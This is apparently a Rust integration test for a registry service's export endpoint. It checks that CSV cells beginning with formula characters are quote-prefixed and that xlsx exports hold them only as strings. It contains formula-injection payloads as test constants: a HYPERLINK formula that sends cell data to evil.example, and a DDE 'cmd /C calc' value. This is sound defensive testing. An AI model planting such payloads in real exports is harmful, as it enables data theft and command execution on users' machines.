//! Spreadsheet formula injection (issue 8, item 2): a value that a spreadsheet program
//! would run as a formula reaches the CSV as text, prefixed with a single quote (OWASP);
//! the JSON export keeps it as it is, and the xlsx holds it as a string cell, never a
//! formula.

use std::io::Cursor;

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use serde_json::{json, Value};

use crate::both_backends;
use crate::exports::parse_csv;
use crate::helpers::TestApp;
use crate::recognition::{
    id_of, partners, r_act, r_act_ok, submission, CN_TH, SUBMITTED_ON, TH_EXAMINED_ON,
    TH_PROTECTED_ON, TH_PUBLISHED_ON,
};
use crate::register::{
    act_ok, application, create_gi_id, expect, EXAMINED_ON, FILED_ON, PUBLISHED_ON, REGISTERED_ON,
};

both_backends!(formulas_reach_the_auditor_as_text);

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
const LABEL: &str = "@SUM(A1:A9)";
const LIMITATIONS: &str = "-2+3 only in the red";
const GROUNDS: &str = "+cmd|' /C calc'!A0";
const AS_OF: &str = "2026-09-15";

async fn export(app: &TestApp, token: &str, format: &str) -> Vec<u8> {
    let response = app
        .get(
            &format!("/api/v1/exports/recognitions?format={format}&as_of={AS_OF}"),
            Some(token),
        )
        .await;
    assert_eq!(response.status(), 200);
    response.bytes().await.unwrap().to_vec()
}

async fn formulas_reach_the_auditor_as_text(app: TestApp) {
    let w = partners(&app).await;
    // A GI whose only name is a live formula, registered at CNIPA.
    let gi = create_gi_id(
        &app,
        &w.cn_assoc,
        application(
            "CNIPA",
            Some(w.cn_association),
            json!([{"text": HYPERLINK, "lang": "en", "script": "Latn", "kind": "original"}]),
        ),
    )
    .await;
    act_ok(&app, &w.cn_assoc, gi, "file", FILED_ON).await;
    for (action, on) in [
        ("start_examination", EXAMINED_ON),
        ("publish", PUBLISHED_ON),
        ("register", REGISTERED_ON),
    ] {
        act_ok(&app, &w.cn_examiner, gi, action, on).await;
    }
    // Submitted to DIP under a formula label and protected with formula limitations.
    let mut body = submission(CN_TH, gi, "DIP", SUBMITTED_ON);
    body["list_label"] = json!(LABEL);
    let protected = id_of(
        &expect(
            app.post("/api/v1/recognitions", Some(&w.cn_examiner), body)
                .await,
            201,
        )
        .await,
    );
    r_act_ok(
        &app,
        &w.th_examiner,
        protected,
        "start_examination",
        TH_EXAMINED_ON,
    )
    .await;
    r_act_ok(&app, &w.th_examiner, protected, "publish", TH_PUBLISHED_ON).await;
    let protect = json!({"action": "protect", "effective_on": TH_PROTECTED_ON,
                         "limitations": LIMITATIONS});
    expect(r_act(&app, &w.th_examiner, protected, protect).await, 200).await;
    // And refused once more elsewhere with formula grounds (a second GI, same names).
    let second = create_gi_id(
        &app,
        &w.cn_other_assoc,
        application(
            "CNIPA",
            Some(w.cn_other_association),
            json!([{"text": "Pinggu Da Tao", "lang": "zh-Latn", "script": "Latn",
                    "kind": "original"}]),
        ),
    )
    .await;
    act_ok(&app, &w.cn_other_assoc, second, "file", FILED_ON).await;
    for (action, on) in [
        ("start_examination", EXAMINED_ON),
        ("publish", PUBLISHED_ON),
        ("register", REGISTERED_ON),
    ] {
        act_ok(&app, &w.cn_examiner, second, action, on).await;
    }
    let refused = id_of(
        &expect(
            app.post(
                "/api/v1/recognitions",
                Some(&w.cn_examiner),
                submission(CN_TH, second, "DIP", SUBMITTED_ON),
            )
            .await,
            201,
        )
        .await,
    );
    r_act_ok(
        &app,
        &w.th_examiner,
        refused,
        "start_examination",
        TH_EXAMINED_ON,
    )
    .await;
    let refuse = json!({"action": "refuse", "effective_on": TH_PUBLISHED_ON, "grounds": GROUNDS});
    expect(r_act(&app, &w.th_examiner, refused, refuse).await, 200).await;

    // CSV: no cell begins with a formula character; each such value is quoted text.
    let csv = export(&app, &w.auditor, "csv").await;
    let text = String::from_utf8(csv.clone()).unwrap();
    let records = parse_csv(&text);
    assert_eq!(records.len(), 3, "a header and two rows: {text}");
    for record in &records {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let col = |name: &str| records[0].iter().position(|h| h == name).unwrap();
    let row = &records[1];
    assert_eq!(
        row[col("names")],
        format!("'{HYPERLINK} [Latn, en, original]")
    );
    assert_eq!(row[col("list_label")], format!("'{LABEL}"));
    assert_eq!(row[col("limitations")], format!("'{LIMITATIONS}"));
    assert_eq!(records[2][col("grounds")], format!("'{GROUNDS}"));
    assert!(
        text.contains(
            r#","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"") [Latn, en, original]","#
        ),
        "the neutralised name is one quoted field: {text}"
    );
    // Byte-identical between runs.
    assert_eq!(export(&app, &w.auditor, "csv").await, csv);

    // JSON keeps the values as entered.
    let document: Value = serde_json::from_slice(&export(&app, &w.auditor, "json").await).unwrap();
    assert_eq!(document["rows"][0]["names"][0]["text"], HYPERLINK);
    assert_eq!(document["rows"][0]["list_label"], LABEL);
    assert_eq!(document["rows"][0]["limitations"], LIMITATIONS);

    // xlsx: the values as entered, in string cells, and not one formula in the workbook.
    let xlsx = export(&app, &w.auditor, "xlsx").await;
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
    let sheets = workbook.sheet_names().to_vec();
    for sheet in &sheets {
        let formulas = workbook.worksheet_formula(sheet).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "a formula in sheet {sheet}"
        );
    }
    let list = workbook.worksheet_range(&sheets[0]).unwrap();
    let rows: Vec<&[Data]> = list.rows().collect();
    let string = |cell: &Data| match cell {
        Data::String(s) => s.clone(),
        other => panic!("expected a string cell, got {other:?}"),
    };
    assert_eq!(
        string(&rows[1][col("names")]),
        format!("{HYPERLINK} [Latn, en, original]")
    );
    assert_eq!(string(&rows[1][col("list_label")]), LABEL);
    assert_eq!(string(&rows[1][col("limitations")]), LIMITATIONS);
    assert_eq!(string(&rows[2][col("grounds")]), GROUNDS);
}
